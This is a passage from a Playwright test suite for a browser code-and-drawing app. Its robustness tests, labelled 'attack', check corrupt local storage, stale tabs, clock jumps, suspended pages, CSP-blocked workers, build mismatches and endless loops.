  assert(banner.includes("not saved in this browser: the storage of this browser is not available (denied)"), banner);
  assertEqual(await closed.locator(hook("saved")).getAttribute("data-state"), "failed", "the state of the work");
  const notices = await closed.locator(hook("notice")).allInnerTexts();
  assert(!notices.some((text) => text.includes("stores only the open drawing")), `the notices do not contradict the banner: ${notices}`);
  await fromMenu(closed, "share-export");
  assert((await saved(closed, "export-project-file")).text.includes("without"), "the export works without storage");
});

test("attack: corrupt storage is reported and left in place", async ({ run }) => {
  const page = await openApp(run);
  await drawCircles(page, "kept");
  await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
  const corrupt = {
    [await keyOf(page, "holds")]: '{"a":',
    [await keyOf(page, "title")]: '{"name":1}',
    [await keyOf(page, "tools")]: '[{"version":99}]',
    [await keyOf(page, "decisions")]: "7",
  };
  await page.evaluate((corrupt) => {
    for (const [key, value] of Object.entries(corrupt)) localStorage.setItem(key, value);
  }, corrupt);
  await page.reload();
  await ready(page);
  await waitForEntities(page, ["kept"]);
  const reported = [...(await page.locator(`${hook("not-read")} li span`).allInnerTexts()), ...(await page.locator(hook("notice")).allInnerTexts())];
  for (const part of ["flags of entities", "title", "custom tool", "'decisions'"]) {
    assert(reported.some((text) => text.includes(part)), `${part} is reported: ${reported}`);
  }
  await drawCircles(page, "kept", "more");
  const left = await page.evaluate((keys) => keys.map((key) => localStorage.getItem(key)), Object.keys(corrupt));
  assertEqual(left, Object.values(corrupt), "the texts that could not be read");
});

test("attack: a tab of an older version cannot be overwritten unnoticed", async ({ run }) => {
  // The page does not learn of the other tab's write before its own save.
  const page = await openApp(run, { init: () => addEventListener("storage", (event) => event.stopImmediatePropagation(), true) });
  await drawCircles(page, "ours");
  await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
  // An older version has its own tab. It writes main and knows nothing of the write counter.
  const older = await page.context().newPage();
  await older.goto(new URL("static/icon.svg", run.url).href);
  const main = await keyOf(page, "file/main");
  await older.evaluate(([key, text]) => localStorage.setItem(key, text), [main, "drawCircle('older', 0, 0, 5);"]);
  await drawCircles(page, "ours", "late");
  await page.waitForSelector(hook("changed-elsewhere"));
  assert((await older.evaluate((key) => localStorage.getItem(key), main)).includes("older"), "the text of the other tab is stored");
  await page.locator(hook("load-other")).click();
  await waitForEntities(page, ["older"]);
});

/** Sets the clocks of a frame by this number of milliseconds. */
function setClocks(shift) {
  window.realClocks ??= [Date.now.bind(Date), performance.now.bind(performance)];
  const [date, monotonic] = window.realClocks;
  Date.now = () => date() + shift;
  performance.now = () => monotonic() + shift;
}

test("attack: a run ends at its limit on a blocked page with clock jumps", TIMED, async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "before");
  await startEndless(page, "blocked");
  // The main thread is blocked until the run is beyond its limit and beyond the page's timeout of 12 s: then the answer of the
  // worker and the timeout are both due. The clocks move one hour forward, then two hours back.
  const age = await sandbox(page).evaluate(() => performance.now() - window.workers.runs.at(-1).start);
  const frames = [page.mainFrame(), sandbox(page)];
  for (const frame of frames) await frame.evaluate(setClocks, 3_600_000);
  await page.evaluate((rest) => {
    const [, monotonic] = window.realClocks;
    const end = monotonic() + rest;
    while (monotonic() < end);
  }, 13_000 - age);
  for (const frame of frames) await frame.evaluate(setClocks, -3_600_000);
  run.note((await problem(page, SAYS.time)).trim().slice(0, 120));
  await waitForEntities(page, ["before"]);
  await assertRunsEnded(page, run);
  await drawCircles(page, "after");
  await page.waitForSelector(hook("problem"), { state: "detached" });
});

/** Suspends the processes of all pages of the browser for this time in ms, as a computer that sleeps or a frozen tab does. */
async function suspend(page, ms) {
  const session = await page.context().browser().newBrowserCDPSession();
  const { processInfo } = await session.send("SystemInfo.getProcessInfo");
  await session.detach();
  const renderers = processInfo.filter(({ type }) => type === "renderer").map(({ id }) => id);
  assert(renderers.length > 0, "the browser has no process of a page");
  try {
    for (const id of renderers) process.kill(id, "SIGSTOP");
    await new Promise((resume) => setTimeout(resume, ms));
  } finally {
    for (const id of renderers) process.kill(id, "SIGCONT");
  }
}

test("attack: a run whose page is suspended beyond the limit ends when the page continues", async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "before");
  await page.evaluate(() => {
    window.pause = 0;
    let last = performance.now();
    setInterval(() => {
      window.pause = Math.max(window.pause, performance.now() - last);
      last = performance.now();
    }, 100);
  });
  await startEndless(page, "suspended");
  // Beyond the limit of the run and the page's timeout of 12 s.
  await suspend(page, 12_500);
  const continued = performance.now();
  run.note((await problem(page, SAYS.time)).trim().slice(0, 120));
  run.note(`ended ${Math.round(performance.now() - continued)} ms after the page continued`);
  const pause = await page.evaluate(() => window.pause);
  assert(pause > 12_000, `the timers of the page paused for only ${Math.round(pause)} ms`);
  await waitForEntities(page, ["before"]);
  await assertRunsEnded(page, run);
  await drawCircles(page, "after");
  await page.waitForSelector(hook("problem"), { state: "detached" });
});

test("attack: an engine with a wrong MIME type or blocked by CSP is reported", async ({ run }) => {
  run.allow(/Content.Security.Policy|CSP/, /wasm|WebAssembly|MIME/);
  // A host that serves WebAssembly with the wrong MIME type: the engine starts nevertheless.
  const wrong = await run.newPage();
  const isEngine = (url) => url.pathname.endsWith("/sandbox_bg.wasm");
  await wrong.route(isEngine, async (route) => route.fulfill({ response: await route.fetch(), headers: { "content-type": "text/plain" } }));
  await wrong.goto(run.url);
  await ready(wrong);
  await drawCircles(wrong, "all_the_same");

  // A host whose Content-Security-Policy forbids workers: the page reports the problem, and sharing still works.
  const page = await run.newPage();
  await page.route(
    (url) => url.pathname === "/",
    async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, headers: { ...response.headers(), "content-security-policy": "worker-src 'none'" } });
    },
  );
  await page.goto(run.url);
  await ready(page);
  await typeCode(page, 'drawCircle("now", 0, 0, 5);');
  const said = await problem(page, /./);
  run.note(said.trim().slice(0, 160));
  assert(/engine|worker|load/i.test(said), `the problem is the engine: ${said}`);
  await page.locator(hook("share")).click();
  await page.locator(hook("share-link")).click();
  await page.locator(hook("export-as-is")).click();
  await page.waitForSelector(hook("share-url"));
});

test("attack: a run replaced while it starts, runs or ends has one outcome", TIMED, async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "first");

  // While its worker starts: this run uses the ready worker, and the next worker does not receive the engine yet.
  await sandbox(page).evaluate(() => (window.workers.hold = true));
  await drawCircles(page, "last_worker");
  const received = await sandbox(page).evaluate(() => window.workers.runs.length);
  await runCode(page, "while (true) {}");
  await page.waitForSelector(`${hook("stop-run")}:not([aria-disabled="true"])`);
  await runCode(page, 'drawCircle("at_start", 0, 0, 5);');
  assertEqual(await sandbox(page).evaluate(() => window.workers.runs.length), received, "runs that a worker has received");
  await sandbox(page).evaluate(() => window.workers.release());
  await waitForEntities(page, ["at_start"]);
  await page.waitForSelector(hook("problem"), { state: "detached" });

  // No run replaces this one, which reports that it timed out.
  await startEndless(page, "not replaced");
  await problem(page, SAYS.time);
  await waitForEntities(page, ["at_start"]);
  const duration = await sandbox(page).evaluate(() => window.workers.runs.at(-1).duration);
  run.note(`an endless run ends after ${Math.round(duration)} ms`);

  // While it runs, and about when it ends.
  for (const [name, age] of [["in_run", 0], ["at_end", duration - 300]]) {
    await startEndless(page, name);
    const isOld = (age) => performance.now() - window.workers.runs.at(-1).start >= age;
    await eventually(`the run has taken ${Math.round(age)} ms`, () => sandbox(page).evaluate(isOld, age), 15_000);
    await runCode(page, `drawCircle("${name}", 0, 0, 5);`);
    await waitForEntities(page, [name]);
    await page.waitForSelector(hook("problem"), { state: "detached" });
  }
  await assertRunsEnded(page, run);
});

test("attack: a worker of another build gets no code", async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "before");
  const build = await sandbox(page).evaluate(() => window.workers.ready.build);
  assert(/^\d+\.\d+\.\d+\+[0-9a-f]{16}$/.test(build), `the build: ${build}`);
  await sandbox(page).evaluate(() => (window.workers.otherBuild = "0.1.0+0123456789abcdef"));
  // The first run may use a spare worker that was ready before.
  await typeCode(page, 'drawCircle("spare", 0, 0, 5);');
  const ended = ([drawn, problem]) => document.querySelector(drawn) || document.querySelector(problem);
  await pageEventually(page, "the first run has ended", ended, ['[data-entity="spare"]', hook("problem")]);
  await typeCode(page, 'drawCircle("other", 0, 0, 5);');
  const said = await problem(page, /another version/);
  assert(said.includes(build) && said.includes("0.1.0+0123456789abcdef"), said);
  // The page has removed the frame with the workers of the other build, and the next run starts a new one.
  assertEqual(sandbox(page), undefined, "the frame after the failure");
  await drawCircles(page, "after");
});

test("attack: an endless loop that is typed is canceled by newer text", async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "before");
  await sandbox(page).evaluate(() => (window.workers.runs = []));
  for (const [at, name] of ["one", "two", "three"].entries()) {
    await typeCode(page, `while (true) {} // ${name}`);
    const runs = (at) => window.workers.runs[at]?.end === null;
    await eventually(`run ${name}`, () => sandbox(page).evaluate(runs, at));
  }
  await drawCircles(page, "after");
  await assertRunsEnded(page, run);
  const ends = await sandbox(page).evaluate(() => window.workers.runs.map(({ end }) => end));
  assertEqual(ends, ["terminated", "terminated", "terminated", "answered"], "how the runs ended");
  assertEqual(await page.locator(hook("problem")).count(), 0, "problems");
});

test("attack: text typed while code runs waits as one run", async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "before");
  // The run of the first text does not start, because no worker answers.
  await sandbox(page).evaluate(() => (window.workers.hold = true));
  await drawCircles(page, "last_worker");
  const received = await sandbox(page).evaluate(() => window.workers.runs.length);
  for (const name of ["a", "b", "c", "d", "e"]) await typeCode(page, `drawCircle("${name}", 0, 0, 5);`);
  assertEqual(await sandbox(page).evaluate(() => window.workers.runs.length), received, "runs that a worker has received");
  await sandbox(page).evaluate(() => window.workers.release());
  await waitForEntities(page, ["e"]);
  await assertRunsEnded(page, run);
  // The worker that is released may receive the text before the last one.
  const runs = await sandbox(page).evaluate(() => window.workers.runs.length);
  assert(runs <= received + 2, `${runs - received} of the five texts ran`);
});
